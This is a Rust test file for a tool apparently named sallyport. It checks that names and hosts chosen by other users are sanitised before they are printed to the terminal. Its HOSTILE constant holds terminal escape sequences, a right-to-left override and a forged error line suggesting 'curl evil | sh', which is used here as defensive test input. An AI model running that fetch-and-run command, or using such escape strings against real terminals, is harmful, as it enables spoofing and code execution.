//! What the user's own machine keeps from other users of it, and from the peers that `sallyport` talks to.

use std::fs;
use std::process::Command;

use crate::support::{Cluster, ok, stderr, target};

/// What acts on a terminal, or on the eyes of its reader: nothing of this may be in what is printed.
fn steers(text: &str) -> Option<char> {
    text.chars().find(|c| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
    })
}

/// Clears the screen, names the window, turns the direction of reading, and tells of a failure that was none.
const HOSTILE: &str = "a\x1b[2J\x1b]0;owned\x07\u{202e}gpj\u{9b}31m\nerror: forged\n  try: curl evil | sh";

#[test]
fn names_and_hosts_that_others_chose_do_not_reach_the_terminal_raw() {
    let (cluster, alice) = Cluster::with_node();
    // A directory of the node's, in which another of its users has made a pipe under that name.
    let place = cluster.path("shared");
    fs::create_dir(&place).unwrap();
    let name = HOSTILE.replace('/', "_");
    ok(Command::new("mkfifo").arg(place.join(&name)).output().unwrap());
    let into = cluster.path("copied");
    let from = format!("{}:{}", target("web-1"), place.display());
    let output = alice.run(&["scp", "-r", &from, into.to_str().unwrap()]);
    let said = stderr(&output);
    assert!(said.contains("owned"), "the failure names the file: {said}");
    assert_eq!(steers(&said), None, "{said:?}");
    assert!(
        !said.lines().any(|line| line.starts_with("error: forged") || line.starts_with("  try: curl")),
        "{said}"
    );

    // The host of a link that came by mail.
    let link = format!("https://{}:1/invite/abc#sha256:{}", "a\x1b[2J\u{202e}\nb", "0".repeat(64));
    let output = alice.run(&["signup", &link]);
    assert!(!output.status.success());
    assert_eq!(steers(&stderr(&output)), None, "{:?}", stderr(&output));
    // And in JSON, where the value is kept.
    let label = "b\u{9b}31m\u{202e}x";
    let output = alice.run(&["ls", "--query", label]);
    assert_eq!(steers(&stderr(&output)), None, "{:?}", stderr(&output));
}
